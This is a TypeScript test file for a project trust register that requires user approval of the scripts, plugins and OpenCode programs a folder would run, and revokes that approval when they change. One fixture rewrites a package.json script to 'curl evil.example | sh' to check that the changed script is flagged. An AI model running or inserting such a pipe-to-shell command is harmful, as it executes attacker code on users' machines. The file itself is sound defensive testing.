import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { detect } from "../../../../electron/core/environment/detect/detect.ts";
import { projectFiles } from "../../../../electron/core/environment/detect/project-files.ts";
import { openDatabase, type Database } from "../../../../electron/core/store/database.ts";
import { readOpencodeConfig } from "../../../../electron/core/workspace/opencode-config.ts";
import { contentOf, joinContent, TrustRegister } from "../../../../electron/core/workspace/trust.ts";

let folder = "";
let database: Database;
let trust: TrustRegister;

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), "deckhand-trust-")));
  ({ database } = openDatabase(join(folder, "store.db"), Date.now));
  trust = new TrustRegister({ database, now: Date.now });
});
afterEach(() => {
  database.close();
  rmSync(folder, { recursive: true, force: true });
});

const project = () => join(folder, "project");

function write(path: string, text: string): void {
  const file = join(project(), path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

async function content() {
  const detected = await detect({ directory: project(), profile: "dev" });
  const config = await readOpencodeConfig(projectFiles(project()));
  return joinContent([contentOf(detected.services.values()), config]);
}

describe("trust", () => {
  it("is for exactly what was on screen: granted by its hash, gone when a script changes, back when it is as it was", async () => {
    const original = JSON.stringify({ name: "shop", scripts: { dev: "node server.mjs" } });
    write("package.json", original);
    expect(() => trust.require("x", { items: [], fingerprint: "" })).toThrow(/not trusted/);
    const review = trust.review(project(), await content());
    expect(review.state).toBe("never");
    expect(review.items.map((item) => item.detail).join("\n")).toContain("node server.mjs");
    trust.grant(project(), await content(), review.contentHash);
    expect(() => trust.require(project(), {} as never)).toThrow();
    trust.require(project(), await content());

    write("package.json", JSON.stringify({ name: "shop", scripts: { dev: "curl evil.example | sh" } }));
    const changed = await content();
    expect(trust.review(project(), changed).state).toBe("changed");
    expect(() => trust.require(project(), changed)).toThrow(expect.objectContaining({ code: "not_trusted" }) as Error);

    write("package.json", original);
    trust.require(project(), await content());
  });

  it("refuses an approval of a list that changed while it was looked at", async () => {
    write("package.json", JSON.stringify({ scripts: { dev: "node a.mjs" } }));
    const { contentHash } = trust.review(project(), await content());
    write("package.json", JSON.stringify({ scripts: { dev: "node b.mjs" } }));
    const now = await content();
    expect(() => trust.grant(project(), now, contentHash)).toThrow(
      expect.objectContaining({ code: "trust_changed" }) as Error,
    );
  });

  it("can be taken back", async () => {
    write("package.json", JSON.stringify({ scripts: { dev: "node a.mjs" } }));
    const now = await content();
    trust.grant(project(), now, trust.review(project(), now).contentHash);
    trust.revoke(project());
    expect(trust.review(project(), now).state).toBe("never");
  });

  it("names every program that the folder's OpenCode configuration would start", async () => {
    write("package.json", "{}");
    write(
      "opencode.jsonc",
      `{
        // a comment
        "mcp": { "helper": { "type": "local", "command": ["node", "helper.mjs"] }, "far": { "type": "remote", "url": "https://x" } },
        "plugin": ["some-plugin"],
        "formatter": { "mine": { "command": ["./format.sh"] } },
        "permission": { "bash": "allow" },
      }`,
    );
    write(".opencode/plugin/spy.ts", "export default {}");
    write(".opencode/tool/deploy.js", "export default {}");
    const items = (await content()).items.map((item) => `${item.name} ${item.detail}`).join("\n");
    for (const expected of ["node helper.mjs", "some-plugin", "./format.sh", "spy.ts", "deploy.js", '"bash":"allow"']) {
      expect(items).toContain(expected);
    }
    expect(items).not.toContain("https://x");
  });

  it.each([
    ["opencode.json", '{"mcp":{"a":{"command":["x"]}}}', '{"mcp":{"a":{"command":["y"]}}}'],
    [".opencode/plugins/p.ts", "export const a = 1", "export const a = 2"],
    ["compose.yaml", "services: {db: {image: a}}", "services: {db: {image: a, privileged: true}}"],
    ["Procfile", "web: node a", "web: node b"],
  ])("asks again when %s changes", async (path, before, after) => {
    write("package.json", "{}");
    write(path, before);
    const first = await content();
    trust.grant(project(), first, trust.review(project(), first).contentHash);
    write(path, after);
    expect(trust.review(project(), await content()).state).toBe("changed");
  });
});
